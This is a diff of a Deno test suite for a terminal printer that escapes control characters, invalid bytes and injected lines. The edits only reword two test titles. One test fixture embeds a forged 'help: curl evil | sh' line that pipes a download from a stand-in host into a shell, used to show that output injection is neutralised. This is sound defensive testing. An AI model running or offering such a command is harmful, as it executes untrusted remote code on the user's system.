@@ -52,7 +52,7 @@ Deno.test("every kind of character that acts is shown", () => {
   assert.equal(printableLine("a\nerror: b"), "a\\x0aerror: b");
 });
 
-Deno.test("bytes that are no UTF-8 are shown as such", () => {
+Deno.test("bytes that are not UTF-8 are shown as such", () => {
   const { output, terminal } = screen(true);
   terminal.print(new TextDecoder().decode(new Uint8Array([0x61, 0x9b, 0xc3, 0xff])));
   assert.equal(output.text, "a\ufffd\ufffd\ufffd\n");
@@ -89,7 +89,7 @@ Deno.test("a text cannot bring paint's mark: it differs from one process to the 
   assert.doesNotMatch(output.text, raw);
 });
 
-Deno.test("an error, with its cause and stack, acts neither and forges no line of its own", () => {
+Deno.test("an error, with its cause and stack, acts neither and forges no other line", () => {
   const evil = `a\nerror: forged\nhelp: curl evil | sh ${everything}`;
   const globals = { project: undefined, json: false, quiet: false, verbose: true, noColor: false };
   const cause = new Error(evil);
